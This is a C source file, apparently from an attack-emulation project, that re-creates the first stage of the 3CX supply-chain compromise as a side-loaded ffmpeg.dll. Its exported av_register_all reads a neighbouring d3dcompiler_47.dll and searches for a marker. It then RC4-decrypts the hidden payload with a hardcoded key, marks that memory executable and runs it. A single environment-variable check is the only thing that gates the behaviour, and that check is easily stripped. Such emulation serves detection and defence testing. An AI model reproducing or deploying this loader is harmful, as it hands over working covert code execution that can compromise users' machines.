/*
 * chainreplay synthetic 3CX scenario, stage 1: ffmpeg.dll (side-loaded loader).
 *
 * Written from scratch for the chainreplay emulator. Benign and INERT outside the
 * emulator: the entry point first reads the environment variable CHAINREPLAY_SANDBOX
 * and returns at once unless it equals "replay-only", before any file, registry,
 * sync-object or network activity.
 *
 * Behaviour re-created (see docs/3cx-chain.md, stage 1):
 *   1. CreateEventW(NULL, TRUE, FALSE, L"AVMonitorRefreshEvent"); stop if it already exists.
 *   2. Own directory via GetModuleFileNameW; open d3dcompiler_47.dll there
 *      (CreateFileW, GetFileSize, ReadFile); check "MZ"; scan for FE ED FA CE.
 *   3. After the marker: uint32 little-endian payload length, then the RC4 payload.
 *   4. RC4-decrypt in place with the key "3jB(2bsG#@c7", VirtualProtect(..., 0x40),
 *      call the payload as void (*)(void).
 *
 * Entry point choice: the malicious code runs from the export av_register_all
 * (no arguments, returns void). A host application linked against FFmpeg calls it
 * once at start-up, so the emulator invokes this export after DllMain. DllMain itself
 * does nothing except remember the module handle and return TRUE (no work under the
 * loader lock).
 *
 * Built with -nostdlib (no CRT), linked only against kernel32, so the API trace is
 * exactly the calls below.
 */
#define WIN32_LEAN_AND_MEAN
#include <windows.h>

/* Variant builds (chainreplay variant, scenarios/3cx/variant.toml) override these with -D;
 * the defaults build the committed sample. */
#ifdef RC4_KEY_BYTES
static const unsigned char rc4_key_bytes[] = {RC4_KEY_BYTES};
#define RC4_KEY     rc4_key_bytes
#define RC4_KEY_LEN sizeof(rc4_key_bytes)
#else
#define RC4_KEY     "3jB(2bsG#@c7"
#define RC4_KEY_LEN 12
#endif
#ifdef CARRIER_MARKER_BYTES
static const unsigned char carrier_marker[4] = {CARRIER_MARKER_BYTES};
#define CARRIER_MARKER_0 carrier_marker[0]
#define CARRIER_MARKER_1 carrier_marker[1]
#define CARRIER_MARKER_2 carrier_marker[2]
#define CARRIER_MARKER_3 carrier_marker[3]
#else
#define CARRIER_MARKER_0 0xFE
#define CARRIER_MARKER_1 0xED
#define CARRIER_MARKER_2 0xFA
#define CARRIER_MARKER_3 0xCE
#endif

static HMODULE g_self;

BOOL WINAPI DllMain(HINSTANCE inst, DWORD reason, LPVOID reserved)
{
    (void)reserved;
    if (reason == DLL_PROCESS_ATTACH)
        g_self = inst;
    return TRUE;
}

/* Returns nonzero only inside the chainreplay emulator. */
static int sandbox_marker_ok(void)
{
    static const WCHAR want[] = L"replay-only";
    WCHAR buf[32];
    DWORD n = GetEnvironmentVariableW(L"CHAINREPLAY_SANDBOX", buf, 32);
    DWORD i;

    if (n != (sizeof(want) / sizeof(want[0])) - 1)
        return 0;
    for (i = 0; i < n; i++)
        if (buf[i] != want[i])
            return 0;
    return 1;
}

static void rc4_inplace(const unsigned char *key, unsigned key_len, unsigned char *data, DWORD len)
{
    unsigned char s[256];
    unsigned i, j = 0, k;
    DWORD n;

    for (i = 0; i < 256; i++)
        s[i] = (unsigned char)i;
    for (i = 0; i < 256; i++) {
        unsigned char t = s[i];
        j = (j + t + key[i % key_len]) & 0xff;
        s[i] = s[j];
        s[j] = t;
    }
    i = j = 0;
    for (n = 0; n < len; n++) {
        unsigned char t;
        i = (i + 1) & 0xff;
        t = s[i];
        j = (j + t) & 0xff;
        s[i] = s[j];
        s[j] = t;
        k = (unsigned)(s[i] + t) & 0xff;
        data[n] ^= s[k];
    }
}

__declspec(dllexport) void av_register_all(void)
{
    static const WCHAR carrier[] = L"d3dcompiler_47.dll";
    WCHAR path[MAX_PATH + 32];
    DWORD n, i, slash, size, got, plen, old;
    HANDLE ev, fh;
    unsigned char *buf, *payload;

    if (!sandbox_marker_ok())
        return;

    /* Single-instance guard (manual-reset, non-signalled). The handle stays open. */
    ev = CreateEventW(NULL, TRUE, FALSE, L"AVMonitorRefreshEvent");
    if (ev == NULL || GetLastError() == ERROR_ALREADY_EXISTS)
        return;

    n = GetModuleFileNameW(g_self, path, MAX_PATH);
    if (n == 0 || n >= MAX_PATH)
        return;
    slash = 0;
    for (i = 0; i < n; i++)
        if (path[i] == L'\\' || path[i] == L'/')
            slash = i + 1;
    for (i = 0; i < sizeof(carrier) / sizeof(carrier[0]); i++)
        path[slash + i] = carrier[i];

    fh = CreateFileW(path, GENERIC_READ, FILE_SHARE_READ, NULL, OPEN_EXISTING,
                     FILE_ATTRIBUTE_NORMAL, NULL);
    if (fh == INVALID_HANDLE_VALUE)
        return;
    size = GetFileSize(fh, NULL);
    if (size == INVALID_FILE_SIZE || size < 64) {
        CloseHandle(fh);
        return;
    }
    buf = (unsigned char *)VirtualAlloc(NULL, size, MEM_COMMIT | MEM_RESERVE, PAGE_READWRITE);
    if (buf == NULL) {
        CloseHandle(fh);
        return;
    }
    got = 0;
    if (!ReadFile(fh, buf, size, &got, NULL) || got != size) {
        CloseHandle(fh);
        return;
    }
    CloseHandle(fh);

    if (buf[0] != 'M' || buf[1] != 'Z')
        return;

    /* Scan for the marker (FE ED FA CE), then uint32 LE length, then the RC4 payload. */
    payload = NULL;
    plen = 0;
    for (i = 0; i + 8 <= size; i++) {
        if (buf[i] == CARRIER_MARKER_0 && buf[i + 1] == CARRIER_MARKER_1 && buf[i + 2] == CARRIER_MARKER_2 &&
            buf[i + 3] == CARRIER_MARKER_3) {
            plen = (DWORD)buf[i + 4] | ((DWORD)buf[i + 5] << 8) |
                   ((DWORD)buf[i + 6] << 16) | ((DWORD)buf[i + 7] << 24);
            if (plen == 0 || plen > size - (i + 8))
                continue;
            payload = buf + i + 8;
            break;
        }
    }
    if (payload == NULL)
        return;

    rc4_inplace((const unsigned char *)RC4_KEY, RC4_KEY_LEN, payload, plen);

    if (!VirtualProtect(payload, plen, PAGE_EXECUTE_READWRITE, &old))
        return;

    ((void (*)(void))payload)();
}
